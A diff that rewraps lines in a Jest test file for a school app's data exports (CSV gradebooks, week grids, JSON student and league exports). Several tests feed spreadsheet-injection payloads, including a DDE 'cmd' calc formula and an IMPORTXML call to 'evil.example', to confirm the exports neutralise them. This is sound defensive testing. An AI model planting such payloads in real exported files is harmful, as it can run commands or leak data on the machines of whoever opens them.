@@ -21,7 +21,14 @@ import { studentWeeklyProgress } from '@/lib/store/collections/progress';
 import { sampleDocument } from '@/lib/testing/sample-document';
 import { TEST_NOW, TEST_SEASON } from '@/lib/testing/services';
 import { changeMeta, RIGHT_ANSWERS, STARTERS, typed } from '@/lib/testing/student-week';
-import { addStudent, installTwoClasses, LEAGUE, OTHER_LEAGUE, type TwoClasses, tryStep } from '@/lib/testing/two-classes';
+import {
+  addStudent,
+  installTwoClasses,
+  LEAGUE,
+  OTHER_LEAGUE,
+  type TwoClasses,
+  tryStep,
+} from '@/lib/testing/two-classes';
 import { GRADEBOOK_COLUMNS, TRY_COLUMNS, WEEK_GRID_COLUMNS } from '@/words/export';
 import { taskTitle } from '@/words/week';
 
@@ -53,9 +60,20 @@ describe('a CSV file', () => {
   });
 
   it('hands no formula to a spreadsheet', async () => {
-    const text = await csvText(listed([['=1+1', '@x', '+1', '-1+1', '\tx', '-2 3/8', -4, "=cmd|' /C calc'!A0"]]));
+    const text = await csvText(
+      listed([['=1+1', '@x', '+1', '-1+1', '\tx', '-2 3/8', -4, "=cmd|' /C calc'!A0"]]),
+    );
     const [row] = parse(text, { bom: true }) as string[][];
-    expect(row).toEqual(["'=1+1", "'@x", "'+1", "'-1+1", "'\tx", '-2 3/8', '-4', "'=cmd|' /C calc'!A0"]);
+    expect(row).toEqual([
+      "'=1+1",
+      "'@x",
+      "'+1",
+      "'-1+1",
+      "'\tx",
+      '-2 3/8',
+      '-4',
+      "'=cmd|' /C calc'!A0",
+    ]);
   });
 
   it('asks for no row before the ones before it were taken, and stops when the reader goes', async () => {
@@ -118,10 +136,18 @@ describe('the gradebook of a season', () => {
     for (const [index, key] of STEP_KEYS.entries()) {
       const answer = progress?.steps[index]?.answer;
       if (!answer) throw new Error('Every step is right.');
-      expect(Number(last[`${stepTitle(key)} points (decimal)`])).toBeCloseTo(fromMixed(answer).valueOf(), 4);
+      expect(Number(last[`${stepTitle(key)} points (decimal)`])).toBeCloseTo(
+        fromMixed(answer).valueOf(),
+        4,
+      );
       expect(last[`${stepTitle(key)} tries`]).toBe(String(progress?.steps[index]?.attempts));
     }
-    expect(rows[0]).toMatchObject({ Week: '1', 'Steps right': '0', 'Quarterback tries': '0', 'Quarterback points': '' });
+    expect(rows[0]).toMatchObject({
+      Week: '1',
+      'Steps right': '0',
+      'Quarterback tries': '0',
+      'Quarterback points': '',
+    });
   });
 
   it('has the times of the tasks on the school’s clock, and which were late', async () => {
@@ -139,7 +165,9 @@ describe('the gradebook of a season', () => {
   });
 
   it('runs nothing that is in a name', async () => {
-    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '=IMPORTXML("//evil.example")' });
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, {
+      teamName: '=IMPORTXML("//evil.example")',
+    });
     expect((await gradebook())[0]?.['Team name']).toBe('\'=IMPORTXML("//evil.example")');
   });
 
@@ -160,12 +188,18 @@ describe('the gradebook of a season', () => {
     }
     const reads = [jest.spyOn(test.store, 'query'), jest.spyOn(test.store, 'list')];
     const asked = () =>
-      reads.flatMap(({ mock }) => mock.calls.map(([{ path }], at) => ({ path, order: mock.invocationCallOrder[at] ?? 0 })));
+      reads.flatMap(({ mock }) =>
+        mock.calls.map(([{ path }], at) => ({ path, order: mock.invocationCallOrder[at] ?? 0 })),
+      );
     const rows = (await exportGradebook(test.teacher, LEAGUE))[Symbol.asyncIterator]();
     for (let count = 0; count < 20; count += 1) await rows.next();
     // The class, and twice three for the second student's first week.
     const inOrder = asked().toSorted((a, b) => a.order - b.order);
-    expect(inOrder.map(({ path }) => path).filter((name) => !['teacherProfiles', 'leagues'].includes(name))).toEqual([
+    expect(
+      inOrder
+        .map(({ path }) => path)
+        .filter((name) => !['teacherProfiles', 'leagues'].includes(name)),
+    ).toEqual([
       'studentProfiles',
       ...['studentWeeklyProgress', 'studentWeeklyTasks', 'studentLessonProgress'],
       ...['studentWeeklyProgress', 'studentWeeklyTasks', 'studentLessonProgress'],
@@ -180,7 +214,9 @@ describe('the gradebook of a season', () => {
     for (const [, viewer, code] of test.refused()) {
       await expect(exportGradebook(viewer, LEAGUE)).rejects.toMatchObject({ code });
     }
-    await expect(exportGradebook(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({ code: 'not-found' });
+    await expect(exportGradebook(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({
+      code: 'not-found',
+    });
     expect(new Set(GRADEBOOK_COLUMNS).size).toBe(GRADEBOOK_COLUMNS.length);
   });
 });
@@ -190,11 +226,16 @@ describe('the grid of a week', () => {
 
   it('has the students that the page shows, in the order in which it shows them', async () => {
     for (const name of ['Ada', 'Bea', 'Cy']) await addStudent(test, name);
-    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { mvpPoints: 9 });
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, {
+      mvpPoints: 9,
+    });
     for (const answer of ['1', '2', '3']) await tryStep(test.kim, 'QB', answer);
     const names = async (arrangement: Partial<Arrangement>) => {
       const { rows } = await exportWeekGrid(test.teacher, LEAGUE, { ...PLAIN, ...arrangement });
-      const table: Record<string, string>[] = parse(await csvText(rows), { bom: true, columns: true });
+      const table: Record<string, string>[] = parse(await csvText(rows), {
+        bom: true,
+        columns: true,
+      });
       return table.map(({ Student = '' }) => Student.slice(0, 3)).join(' ');
     };
     expect(await names({})).toBe('Ada Bea Cy  Kim');
@@ -213,16 +254,26 @@ describe('the grid of a week', () => {
 
     const shown = await getLeagueWeek(test.teacher, LEAGUE, { week: 6 });
     const { week, rows } = await exportWeekGrid(test.teacher, LEAGUE, { ...PLAIN, week: 6 });
-    const table: Record<string, string>[] = parse(await csvText(rows), { bom: true, columns: true });
+    const table: Record<string, string>[] = parse(await csvText(rows), {
+      bom: true,
+      columns: true,
+    });
     expect(week).toBe(6);
     expect(table.map(({ Student }) => Student)).toEqual(['Ada L.', 'Kim L.']);
     for (const [index, row] of shown.rows.entries()) {
       const line = table[index] ?? {};
       expect([line.Student, line['Team name']]).toEqual([row.name, row.teamName ?? '']);
-      expect(STEP_KEYS.map((key) => Number(line[`${stepTitle(key)} tries`]))).toEqual(row.steps.map(({ attempts }) => attempts));
-      expect(STEP_KEYS.map((key) => line[`${stepTitle(key)} late`] === 'late')).toEqual(row.steps.map(({ late }) => late));
+      expect(STEP_KEYS.map((key) => Number(line[`${stepTitle(key)} tries`]))).toEqual(
+        row.steps.map(({ attempts }) => attempts),
+      );
+      expect(STEP_KEYS.map((key) => line[`${stepTitle(key)} late`] === 'late')).toEqual(
+        row.steps.map(({ late }) => late),
+      );
       expect(TASKS.map(({ number }) => line[taskTitle(number)])).toEqual(row.tasks);
-      expect([line['MVP points this week'], line['MVP points this season']]).toEqual([`${row.weekMvp}`, `${row.mvp}`]);
+      expect([line['MVP points this week'], line['MVP points this season']]).toEqual([
+        `${row.weekMvp}`,
+        `${row.mvp}`,
+      ]);
     }
     expect(table[1]).toMatchObject({
       Quarterback: 'stuck',
@@ -236,7 +287,9 @@ describe('the grid of a week', () => {
   });
 
   it('runs nothing that is in a name, and is the own teacher’s alone', async () => {
-    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '@SUM(1)' });
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, {
+      teamName: '@SUM(1)',
+    });
     const { rows } = await exportWeekGrid(test.teacher, LEAGUE, PLAIN);
     expect(await csvText(rows)).toContain("'@SUM(1)");
     expect(new Set(WEEK_GRID_COLUMNS).size).toBe(WEEK_GRID_COLUMNS.length);
@@ -256,17 +309,23 @@ type Exported = {
 describe('everything about one student', () => {
   async function exported(): Promise<Exported> {
     let text = '';
-    for await (const part of await exportStudent(test.teacher, LEAGUE, test.kim.accountId)) text += part;
+    for await (const part of await exportStudent(test.teacher, LEAGUE, test.kim.accountId))
+      text += part;
     return JSON.parse(text);
   }
 
   /** The fields that name a person, in whatever collection. */
   const PERSON_FIELDS = ['studentId', 'userId', 'accountId', 'actorId'];
-  /** Open resets, which are keys and nothing else; the identity adapter keeps them, and they end within the hour. */
+  /**
+   * Open resets, which are keys and nothing else; the identity adapter keeps them, and they end
+   * within the hour.
+   */
   const KEYS = ['accountResetTokens.accountId'];
 
   it('names every collection in which a student can be', () => {
-    const named = new Set(STUDENT_RECORDS.map(({ collection, person }) => `${collection.definition.name}.${person}`));
+    const named = new Set(
+      STUDENT_RECORDS.map(({ collection, person }) => `${collection.definition.name}.${person}`),
+    );
     const missing = allCollections.flatMap(({ definition }) =>
       Object.keys((definition.schema as unknown as { shape: object }).shape)
         .filter((field) => PERSON_FIELDS.includes(field))
@@ -290,7 +349,10 @@ describe('everything about one student', () => {
         } as never);
       }
     }
-    await test.store.set(leagueStudents(LEAGUE), { id: test.kim.accountId, createdAt: timestampFromDate(TEST_NOW) });
+    await test.store.set(leagueStudents(LEAGUE), {
+      id: test.kim.accountId,
+      createdAt: timestampFromDate(TEST_NOW),
+    });
     const { records } = await exported();
     for (const [index, { collection }] of own.entries()) {
       const { name } = collection.definition;
@@ -300,17 +362,28 @@ describe('everything about one student', () => {
     }
     expect(JSON.stringify(records)).not.toContain('foreign-');
     expect(JSON.stringify(records)).not.toContain(test.stranger.accountId);
-    expect(records['leagues/students']).toMatchObject([{ leagueId: LEAGUE, id: test.kim.accountId }]);
+    expect(records['leagues/students']).toMatchObject([
+      { leagueId: LEAGUE, id: test.kim.accountId },
+    ]);
   });
 
   it('holds every try as it is stored, the account’s address and what the teacher changed, and no key to a session', async () => {
-    const account = await test.services.identity.createAccount({ email: 'real@school.org', password: 'seven green kites' });
+    const account = await test.services.identity.createAccount({
+      email: 'real@school.org',
+      password: 'seven green kites',
+    });
     if (account.status !== 'created') throw new Error('The address is free.');
     await tryStep(test.kim, 'QB', '1 1/2');
-    await setFormulaLevel(test.teacher, { leagueId: LEAGUE, studentId: test.kim.accountId, formulaLevel: 2 });
+    await setFormulaLevel(test.teacher, {
+      leagueId: LEAGUE,
+      studentId: test.kim.accountId,
+      formulaLevel: 2,
+    });
     const { records, studentId } = await exported();
     expect(studentId).toBe(test.kim.accountId);
-    expect(records.studentPlayerScoreAttempts).toMatchObject([{ typed: { whole: '1 1/2' }, correct: false }]);
+    expect(records.studentPlayerScoreAttempts).toMatchObject([
+      { typed: { whole: '1 1/2' }, correct: false },
+    ]);
     expect(records['auditLog about this student']).toMatchObject(
       expect.arrayContaining([expect.objectContaining({ action: 'student.formula-level-2' })]),
     );
@@ -325,18 +398,31 @@ describe('everything about one student', () => {
       week: 6,
       season: TEST_SEASON,
     });
-    await test.services.files.put('user_graphs', 'graph-1', { bytes: new Uint8Array([1, 2, 3]), contentType: 'image/png' });
-    expect((await exported()).images).toEqual({ 'graph-1': { contentType: 'image/png', base64: 'AQID' } });
+    await test.services.files.put('user_graphs', 'graph-1', {
+      bytes: new Uint8Array([1, 2, 3]),
+      contentType: 'image/png',
+    });
+    expect((await exported()).images).toEqual({
+      'graph-1': { contentType: 'image/png', base64: 'AQID' },
+    });
   });
 
   it('is the own teacher’s alone, and it is kept who asked', async () => {
     for (const [, viewer, code] of test.refused()) {
-      await expect(exportStudent(viewer, LEAGUE, test.kim.accountId)).rejects.toMatchObject({ code });
+      await expect(exportStudent(viewer, LEAGUE, test.kim.accountId)).rejects.toMatchObject({
+        code,
+      });
     }
-    await expect(exportStudent(test.teacher, LEAGUE, test.stranger.accountId)).rejects.toMatchObject({ code: 'not-found' });
+    await expect(
+      exportStudent(test.teacher, LEAGUE, test.stranger.accountId),
+    ).rejects.toMatchObject({ code: 'not-found' });
     await exported();
-    const done = await test.store.query(auditLog, { where: [{ field: 'outcome', op: '==', value: 'done' }] });
-    expect(done).toMatchObject([{ action: 'student.export', actorId: test.teacher.accountId, target: test.kim.accountId }]);
+    const done = await test.store.query(auditLog, {
+      where: [{ field: 'outcome', op: '==', value: 'done' }],
+    });
+    expect(done).toMatchObject([
+      { action: 'student.export', actorId: test.teacher.accountId, target: test.kim.accountId },
+    ]);
   });
 });
 
@@ -344,7 +430,10 @@ describe('everything about a league', () => {
   async function exported() {
     let text = '';
     for await (const part of await exportLeague(test.teacher, LEAGUE)) text += part;
-    return { text, ...(JSON.parse(text) as { league: Record<string, unknown>; students: Exported[] }) };
+    return {
+      text,
+      ...(JSON.parse(text) as { league: Record<string, unknown>; students: Exported[] }),
+    };
   }
 
   it('has the league and each of its students as the export of one has it, no one else, and no key to the league', async () => {
@@ -356,7 +445,8 @@ describe('everything about a league', () => {
     expect(text).not.toContain(test.stranger.accountId);
     expect(students).toHaveLength(2);
     let own = '';
-    for await (const part of await exportStudent(test.teacher, LEAGUE, test.kim.accountId)) own += part;
+    for await (const part of await exportStudent(test.teacher, LEAGUE, test.kim.accountId))
+      own += part;
     const kim = students.find(({ studentId }) => studentId === test.kim.accountId);
     const { 'auditLog about this student': _, ...alone } = (JSON.parse(own) as Exported).records;
     expect(kim?.records).toMatchObject(alone);
@@ -365,7 +455,9 @@ describe('everything about a league', () => {
   });
 
   it('of an empty league is a whole file too', async () => {
-    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { leagueId: '' });
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, {
+      leagueId: '',
+    });
     expect((await exported()).students).toEqual([]);
   });
 
@@ -382,17 +474,27 @@ describe('everything about a league', () => {
   });
 
   it('is the own teacher’s alone, and it is kept who asked', async () => {
-    for (const [, viewer, code] of test.refused()) await expect(exportLeague(viewer, LEAGUE)).rejects.toMatchObject({ code });
-    await expect(exportLeague(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({ code: 'not-found' });
+    for (const [, viewer, code] of test.refused())
+      await expect(exportLeague(viewer, LEAGUE)).rejects.toMatchObject({ code });
+    await expect(exportLeague(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({
+      code: 'not-found',
+    });
     await exported();
-    const done = await test.store.query(auditLog, { where: [{ field: 'outcome', op: '==', value: 'done' }] });
-    expect(done).toMatchObject([{ action: 'league.export', actorId: test.teacher.accountId, target: LEAGUE }]);
+    const done = await test.store.query(auditLog, {
+      where: [{ field: 'outcome', op: '==', value: 'done' }],
+    });
+    expect(done).toMatchObject([
+      { action: 'league.export', actorId: test.teacher.accountId, target: LEAGUE },
+    ]);
   });
 });
 
 describe('the tries of one student as a table', () => {
   const table = async (): Promise<Record<string, string>[]> =>
-    parse(await csvText(await exportTries(test.teacher, LEAGUE, test.kim.accountId)), { bom: true, columns: true });
+    parse(await csvText(await exportTries(test.teacher, LEAGUE, test.kim.accountId)), {
+      bom: true,
+      columns: true,
+    });
 
   it('has a line for each try at score cards and at scouting, as it was typed and as it was judged', async () => {
     await submitScouting(test.kim, {
@@ -410,7 +512,8 @@ describe('the tries of one student as a table', () => {
       await tryStep(test.kim, step, answer);
     }
     test.advance(60_000);
-    for (const key of STEP_KEYS.slice(0, 8)) if (key !== 'RB2') await tryStep(test.kim, key, RIGHT_ANSWERS[key]);
+    for (const key of STEP_KEYS.slice(0, 8))
+      if (key !== 'RB2') await tryStep(test.kim, key, RIGHT_ANSWERS[key]);
     test.advance(60_000);
     await tryStep(test.kim, 'TEAM', '5', [
       { of: [0, 2], typed: ' 45 ' },
@@ -449,7 +552,12 @@ describe('the tries of one student as a table', () => {
         'Looks like': '',
       },
     ]);
-    expect(rows.at(-1)).toMatchObject({ Step: 'Team', Player: '', 'Whole number typed': '5', Result: 'wrong' });
+    expect(rows.at(-1)).toMatchObject({
+      Step: 'Team',
+      Player: '',
+      'Whole number typed': '5',
+      Result: 'wrong',
+    });
     expect(rows.at(-1)).toMatchObject({ Lines: 'lines 1 + 3: 45; line 7: 8 1/2' });
     expect(rows[1]).toMatchObject({ Lines: '' });
     expect(new Set(TRY_COLUMNS).size).toBe(TRY_COLUMNS.length);
@@ -461,7 +569,11 @@ describe('the tries of one student as a table', () => {
     if (!attempt) throw new Error('The try is kept.');
     const evil = { ...attempt, typed: { whole: '=1+1', numerator: '', denominator: '' } };
     await test.store.set(studentPlayerScoreAttempts, evil);
-    await test.store.set(studentPlayerScoreAttempts, { ...attempt, id: 'older', season: TEST_SEASON - 1 });
+    await test.store.set(studentPlayerScoreAttempts, {
+      ...attempt,
+      id: 'older',
+      season: TEST_SEASON - 1,
+    });
     expect((await table()).map((row) => row['Whole number typed'])).toEqual(["'=1+1"]);
   });
 
@@ -469,6 +581,8 @@ describe('the tries of one student as a table', () => {
     for (const [, viewer, code] of test.refused()) {
       await expect(exportTries(viewer, LEAGUE, test.kim.accountId)).rejects.toMatchObject({ code });
     }
-    await expect(exportTries(test.teacher, LEAGUE, test.stranger.accountId)).rejects.toMatchObject({ code: 'not-found' });
+    await expect(exportTries(test.teacher, LEAGUE, test.stranger.accountId)).rejects.toMatchObject({
+      code: 'not-found',
+    });
   });
 });
